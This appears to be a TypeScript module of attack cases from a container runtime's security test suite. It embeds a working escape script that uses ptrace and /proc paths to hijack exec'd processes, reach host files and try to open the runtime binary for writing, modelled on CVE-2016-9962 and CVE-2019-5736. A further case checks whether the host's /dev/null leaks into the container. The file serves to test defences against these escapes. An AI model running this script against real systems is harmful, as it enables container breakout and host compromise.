/**
 * What comes into a running container with `exec`, and a program in it that waits for that: it looks at every new
 * process through /proc, and where it may trace, it takes hold of it.
 */
import type { AttackCase, Stage } from '../case.ts';

/**
 * Numbers of processes are given in order, so the next ones are asked for without a pause. What is found of the host's
 * is a line that begins with GOT; that there was something to look at, one that begins with SAW.
 */
const WAYLAY = `
const { dlopen, ptr, read } = require('bun:ffi');
const fs = require('node:fs');
const [secret] = process.argv.slice(2);
const { symbols: c } = dlopen('libc.so.6', {
  ptrace: { args: ['int64_t', 'int64_t', 'int64_t', 'int64_t'], returns: 'int64_t' },
  waitpid: { args: ['int', 'ptr', 'int'], returns: 'int' },
  access: { args: ['ptr', 'int'], returns: 'int' },
});
const [PTRACE_DETACH, PTRACE_SEIZE, PTRACE_INTERRUPT, WALL] = [17, 0x4206, 0x4207, 0x40000000];
let loot = 0;
const tell = (line) => {
  fs.writeSync(1, line + '\\n');
  if (line.startsWith('GOT') && (loot += 1) === 30) process.exit(0);
};
const quiet = (ask) => { try { return ask(); } catch { return undefined; } };
const field = (text, name) => new RegExp('^' + name + ':\\\\s*(.*)$', 'm').exec(text ?? '')?.[1];
const mine = fs.readFileSync('/proc/self/status', 'utf8');
const own = { cap: BigInt('0x' + field(mine, 'CapBnd')), seccomp: field(mine, 'Seccomp'), mnt: fs.readlinkSync('/proc/self/ns/mnt') };
const held = [];

function look(pid, how) {
  const at = '/proc/' + pid;
  for (const way of ['/root', '/cwd', '/cwd/../../../../..'])
    if (quiet(() => fs.existsSync(at + way + secret))) tell('GOT the host\\'s files by ' + way + ', ' + how);
  for (const fd of quiet(() => fs.readdirSync(at + '/fd')) ?? []) {
    if (quiet(() => fs.existsSync(at + '/fd/' + fd + '/../../../../../../../..' + secret))) tell('GOT the host\\'s files by descriptor ' + fd + ', ' + how);
    if (Number(fd) > 2) tell('FD ' + fd + ' ' + quiet(() => fs.readlinkSync(at + '/fd/' + fd)));
  }
  if (quiet(() => fs.readFileSync(at + '/environ', 'utf8'))?.includes('BUN_JSC_')) tell('GOT minidock\\'s environment, ' + how);
  const exe = quiet(() => fs.openSync(at + '/exe', 'r'));
  if (exe !== undefined) {
    if (fs.fstatSync(exe).size > 5e7 && !quiet(() => fs.readlinkSync('/proc/self/fd/' + exe))?.startsWith('/attacker')) held.push(exe);
    else fs.closeSync(exe);
  }
}

function trace(pid) {
  if (Number(c.ptrace(PTRACE_SEIZE, pid, 0, 0)) !== 0) return;
  if (Number(c.ptrace(PTRACE_INTERRUPT, pid, 0, 0)) !== 0) return;
  const status = new Int32Array(1);
  c.waitpid(pid, ptr(status), WALL);
  const text = quiet(() => fs.readFileSync('/proc/' + pid + '/status', 'utf8'));
  if (text !== undefined) {
    tell('TRACED');
    const cap = BigInt('0x' + (field(text, 'CapPrm') ?? '0'));
    if ((cap & ~own.cap) !== 0n) tell('GOT a process with the capabilities ' + cap.toString(16));
    if (field(text, 'Seccomp') !== own.seccomp) tell('GOT a process without the filter');
    const mnt = quiet(() => fs.readlinkSync('/proc/' + pid + '/ns/mnt'));
    if (mnt !== undefined && mnt !== own.mnt) tell('GOT a process in other mounts');
    look(pid, 'traced');
  }
  c.ptrace(PTRACE_DETACH, pid, 0, 0);
}

const last = () => Number(fs.readFileSync('/proc/loadavg', 'utf8').trim().split(' ').at(-1));
const isMine = (pid) => field(quiet(() => fs.readFileSync('/proc/' + pid + '/status', 'utf8')), 'Tgid') === String(process.pid);
const paths = new Map();
const path = (pid) => { if (!paths.has(pid)) paths.set(pid, Buffer.from('/proc/' + pid + '/root\\0')); return paths.get(pid); };
let from = last() + 1;
tell('READY');
for (let round = 1; ; round += 1) {
  const to = round % 1000 === 0 ? Math.max(from + 1, last()) : from + 2;
  for (let pid = from; pid <= to; pid += 1) {
    if (c.access(ptr(path(pid)), 0) !== 0) continue;
    from = pid + 1;
    if (isMine(pid)) continue;
    for (let n = 0; n < 3; n += 1) look(pid, 'waylaid');
    tell('SAW ' + pid);
    trace(pid);
    for (const exe of held.splice(0)) {
      if (quiet(() => fs.closeSync(fs.openSync('/proc/self/fd/' + exe, 'r+')) ?? true) !== undefined) tell('GOT minidock\\'s program file, to write to');
      fs.closeSync(exe);
    }
  }
  if (to > from + 2) from = to + 1;
}
`;

const EXECS = 60;

async function waylay(stage: Stage, flags: readonly string[]): Promise<string | undefined> {
  const secret = stage.secret();
  const image = await stage.image({ files: {} });
  const bun = stage.bun(WAYLAY);
  const started = await stage.minidock(
    'run',
    '-d',
    ...flags,
    ...bun.flags,
    image,
    ...bun.command,
    secret.path,
  );
  if (started.exitCode !== 0) throw new Error(`the attacker was not started: ${started.stderr}`);
  const id = started.stdout.trim();
  const log = async (): Promise<readonly string[]> => (await stage.minidock('logs', id)).stdout.split('\n');
  await stage.host.waitFor(
    async () => (await log()).includes('READY') || undefined,
    'the attacker to be ready',
  );
  // Where each takes seconds, four are enough.
  const execs =
    'for i in $(seq "$1"); do [ "$i" -gt 4 ] && [ "$SECONDS" -ge 15 ] && exit; "$2" exec -i "$3" /bin/true </dev/null || exit 0; done';
  await stage.run(['bash', '-c', execs, 'bash', String(EXECS), stage.binary, id], { timeout: 120_000 });
  const lines = await log();
  await stage.minidock('rm', '-f', id);
  const seen = lines.filter((line) => line.startsWith('SAW')).length;
  // A descriptor above 2 is none of the program's, so it is one of minidock's.
  const found = lines
    .filter((line) => /^(GOT|FD) /.test(line))
    .sort()
    .reverse();
  if (found.length > 0)
    return `${found.length} times, of ${seen} processes seen: ${[...new Set(found)].slice(0, 8).join('; ')}`;
  if (seen === 0) throw new Error(`the attacker saw ${seen} processes only:\n${lines.join('\n')}`);
  return undefined;
}

export const waylaidCases: readonly AttackCase[] = [
  {
    name: 'exec-waylaid-by-tracer',
    story:
      'A program that may trace waits for the process of exec, to read the host through it and to take it over.',
    cves: ['CVE-2016-9962', 'CVE-2019-5736'],
    short: true,
    attack: (stage) => waylay(stage, ['--cap-add', 'SYS_PTRACE']),
  },
  {
    name: 'exec-waylaid-by-privileged',
    story: 'A privileged program waits for the process of exec, to read the host through it.',
    cves: ['CVE-2016-9962', 'CVE-2019-5736'],
    attack: (stage) => waylay(stage, ['--privileged']),
  },
  {
    name: 'exec-waylaid',
    story: 'A program with the usual capabilities waits for the process of exec.',
    cves: ['CVE-2016-9962'],
    guard: true,
    attack: (stage) => waylay(stage, []),
  },
  {
    name: 'null-device-of-host',
    story:
      'Standard input is the host’s /dev/null, so that root of the container changes the mode of that device.',
    ways: ['run', 'exec', 'create', 'init'],
    async attack(stage, way) {
      const image = await stage.image({ files: {} });
      const identify = ['stat', '-L', '-c', '%d:%i'];
      const host = (await stage.run([...identify, '/dev/null'])).stdout.trim();
      const inside = await stage.use(way, image, [], ['/bin/busybox', ...identify, '/proc/self/fd/0']);
      const seen = inside.stdout.trim();
      if (!/^\d+:\d+$/.test(seen)) throw new Error(`stat said ${inside.stdout}${inside.stderr}`);
      return seen === host ? `file ${seen} is the host’s /dev/null` : undefined;
    },
  },
];
